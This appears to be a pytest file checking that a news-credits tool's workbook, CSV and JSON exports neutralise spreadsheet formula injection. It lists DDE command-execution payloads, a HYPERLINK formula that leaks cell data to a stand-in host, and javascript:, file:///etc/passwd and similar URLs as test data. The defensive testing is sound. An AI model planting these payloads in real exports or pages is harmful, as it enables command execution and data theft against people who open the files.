"""Exports cannot be turned against the people who open them.

Formula payloads in every text field (captions, credits, names, titles, URLs, publisher)
land as plain text in every sheet of the workbook (no ``<f>`` element, no formula cell) and
with OWASP's ``'`` prefix in every CSV file; characters XML forbids never crash the export;
only http(s) URLs become hyperlinks. Through the command line, as a user runs it, and from a
scraped page through ``credits scan``.
"""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from credits.catalogue import Catalogue
from credits.cli import app
from credits.models import Article, Credit, Entry

PAYLOADS = (
    '=HYPERLINK("http://x/?"&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
)
BAD_URLS = (
    "javascript:alert(1)",
    "JavaScript:alert(document.domain)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    '=HYPERLINK("http://x/?"&A1,"Details")',
)
# (Lone surrogates cannot reach the catalogue at all: see the json-ld-surrogates case.)
ILLEGAL = "nul\x00 bell\x07 esc\x1b vt\x0b ff\x0c fffe\ufffe ffff\uffff end"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _articles() -> list[Article]:
    articles = []
    for number, payload in enumerate(PAYLOADS, start=1):
        credit = Credit(payload, (payload,), (payload,), payload, frozenset({"unknown_agency"}))
        entries = (
            Entry(1, "gallery", payload, payload, payload, credit, 1, "https://i.example/a.jpg"),
            Entry(2, "figure", None, None, payload, None, 2, payload),
        )
        articles.append(
            Article(
                f"payload-{number}",
                f"{payload}.txt",
                BAD_URLS[number % len(BAD_URLS)],
                payload,
                datetime(2025, 1, number, tzinfo=UTC),
                payload,
                entries,
            )
        )
    illegal_credit = Credit(ILLEGAL, (ILLEGAL,), ("dpa",), None, frozenset())
    articles.append(
        Article(
            "illegal",
            "illegal.txt",
            "https://news.example/ok?a=1&b=2",
            ILLEGAL,
            None,
            ILLEGAL,
            (Entry(1, "figure", ILLEGAL, ILLEGAL, ILLEGAL, illegal_credit, 1, ILLEGAL),),
        )
    )
    return articles


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A catalogue of hostile articles, exported as workbook, CSV and JSON by the CLI."""
    root = tmp_path_factory.mktemp("export")
    db = root / "catalogue.sqlite"
    with Catalogue(db) as catalogue:
        for article in _articles():
            catalogue.add(article)
    result = CliRunner().invoke(
        app,
        ["export", "--db", str(db), "--xlsx", str(root / "book.xlsx"), "--csv", str(root / "csv"),
         "--json", str(root / "entries.json")],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return root


def _sheets(book: Path) -> dict[str, str]:
    with zipfile.ZipFile(book) as archive:
        return {
            name: archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        }


def test_no_sheet_holds_a_formula(exported: Path) -> None:
    sheets = _sheets(exported / "book.xlsx")
    assert sheets, "no worksheets"
    for name, xml in sheets.items():
        if "chart" in name:
            continue
        assert re.search(r"<f[\s>]", xml) is None, f"{name} holds a formula"


def test_every_payload_reads_back_as_text_in_every_data_sheet(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "book.xlsx")
    seen: set[str] = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    seen.add(cell.value.replace("\r", "\n"))
    for payload in PAYLOADS:
        expected = payload.replace("\r", "\n")
        assert any(expected.strip() in value for value in seen), f"{payload!r} lost"


def test_only_http_urls_become_hyperlinks(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "book.xlsx")
    links = [cell.hyperlink.target for s in book.worksheets for r in s.iter_rows() for cell in r
             if cell.hyperlink is not None]  # fmt: skip
    assert links, "the one http(s) URL should be a link"
    for target in links:
        assert target.lower().startswith(("http://", "https://")), target
    with zipfile.ZipFile(exported / "book.xlsx") as archive:
        for name in archive.namelist():
            if name.endswith(".rels") and "worksheets" in name:
                for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"',
                                         archive.read(name).decode()):  # fmt: skip
                    assert target.lower().startswith(("http://", "https://")), target


def test_xml_illegal_characters_are_removed_not_fatal(exported: Path) -> None:
    book = openpyxl.load_workbook(exported / "book.xlsx")
    values = [c.value for s in book.worksheets for r in s.iter_rows() for c in r
              if isinstance(c.value, str)]  # fmt: skip
    assert any("nul bell esc" in value for value in values)
    for value in values:
        assert re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\ud800-\udfff]", value) is None


def test_every_csv_cell_is_safe(exported: Path) -> None:
    files = sorted((exported / "csv").glob("*.csv"))
    assert files
    prefixed = 0
    for file in files:
        with file.open(encoding="utf-8-sig", newline="") as stream:
            for row in csv.reader(stream):
                for value in row:
                    assert not value.startswith(FORMULA_START), f"{file.name}: {value!r}"
                    prefixed += value.startswith("'") and value[1:].startswith(FORMULA_START)
    assert prefixed >= len(PAYLOADS)


def test_json_keeps_the_text_exactly(exported: Path) -> None:
    data = json.loads((exported / "entries.json").read_text(encoding="utf-8"))
    text = json.dumps(data, ensure_ascii=False)
    for payload in PAYLOADS[:3]:
        assert json.dumps(payload, ensure_ascii=False)[1:-1] in text


def test_a_scraped_page_cannot_plant_a_formula(tmp_path: Path) -> None:
    """End to end: a hostile page → credits scan → credits export → no formula, safe CSV."""
    page = tmp_path / "pages" / "evil.html"
    page.parent.mkdir()
    figures = "".join(
        f'<figure><img src="https://i.example/{n}.jpg"><figcaption>{payload} '
        f"Foto: {payload}/dpa</figcaption></figure>"
        for n, payload in enumerate(PAYLOADS)
    )
    page.write_text(
        f"<html><head><title>{PAYLOADS[0]}</title>"
        f'<link rel="canonical" href="javascript:alert(1)"></head>'
        f"<body><article><h1>{PAYLOADS[1]}</h1>{figures}</article></body></html>",
        encoding="utf-8",
    )
    db, book, folder = tmp_path / "c.sqlite", tmp_path / "b.xlsx", tmp_path / "csv"
    runner = CliRunner()
    scanned = runner.invoke(app, ["scan", str(page.parent), "--db", str(db), "--jobs", "1"])
    assert scanned.exit_code == 0, scanned.output
    result = runner.invoke(
        app, ["export", "--db", str(db), "--xlsx", str(book), "--csv", str(folder)]
    )
    assert result.exit_code == 0, result.output
    for name, xml in _sheets(book).items():
        assert re.search(r"<f[\s>]", xml) is None, name
    for file in folder.glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as stream:
            for row in csv.reader(stream):
                assert not any(value.startswith(FORMULA_START) for value in row), (file, row)
